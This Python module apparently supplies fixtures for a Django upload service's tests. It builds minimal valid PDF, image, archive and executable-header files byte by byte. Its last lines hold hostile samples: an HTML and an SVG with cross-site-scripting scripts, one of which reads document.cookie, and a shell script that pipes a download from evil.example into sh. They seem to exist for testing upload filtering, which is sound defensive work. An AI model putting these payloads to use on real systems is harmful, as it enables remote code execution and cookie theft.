"""Real, minimal files of each kind, built here byte by byte (no image or PDF library)."""

import base64
import struct
import zlib

from django.core.files.base import ContentFile


def upload(content: bytes, name: str) -> ContentFile:
    """An upload as a service receives it (a ContentFile keeps its name exactly as given)."""
    return ContentFile(content, name=name)


def pdf_bytes(text: str = "Linux BenchTools") -> bytes:
    """A one-page PDF 1.4 with a correct cross-reference table (opens in any reader)."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes(width: int = 2, height: int = 2, rgb: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    """An 8-bit RGB PNG of one colour, with valid CRCs and zlib stream."""
    row = b"\x00" + bytes(rgb) * width  # filter type 0 per scanline
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(row * height))
        + _png_chunk(b"IEND", b"")
    )


def gif_bytes() -> bytes:
    """A 1×1 GIF89a (global colour table of two entries, one LZW-coded pixel)."""
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )


# A 1×1 lossless WebP and a 1×1 greyscale baseline JPEG (JFIF).
WEBP = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")
JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300080606070605080707070909080a0c140d0c0b0b"
    "0c1912130f141d1a1f1e1d1a1c1c20242e2720222c231c1c2837292c30313434341f27393d38323c2e333432"
    "ffc0000b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a"
    "0bffc400b5100002010303020403050504040000017d01020300041105122131410613516107227114328191"
    "a1082342b1c11552d1f02433627282090a161718191a25262728292a3435363738393a434445464748494a53"
    "5455565758595a636465666768696a737475767778797a838485868788898a92939495969798999aa2a3a4a5"
    "a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2"
    "f3f4f5f6f7f8f9faffda0008010100003f00fbd3ffd9"
)

TEXT = "Warranty: 3 years, on-site.\nSerial: CZC1234XYZ — Übersicht ✓\n".encode()


def pe_bytes() -> bytes:
    """The head of a Windows PE executable: MZ header, e_lfanew, PE signature, COFF header."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<H", 0x20B).ljust(0xF0, b"\x00")  # PE32+
    return bytes(dos) + stub + b"PE\x00\x00" + coff + optional


def elf_bytes() -> bytes:
    """The head of a 64-bit little-endian ELF executable (x86-64)."""
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    header = struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return ident + header + b"\x00" * 128


def macho_bytes() -> bytes:
    """The head of a 64-bit Mach-O executable (arm64)."""
    return struct.pack("<IiiIIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 0, 0, 0, 0) + b"\x00" * 64


def zip_bytes() -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("manual.pdf", pdf_bytes())
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
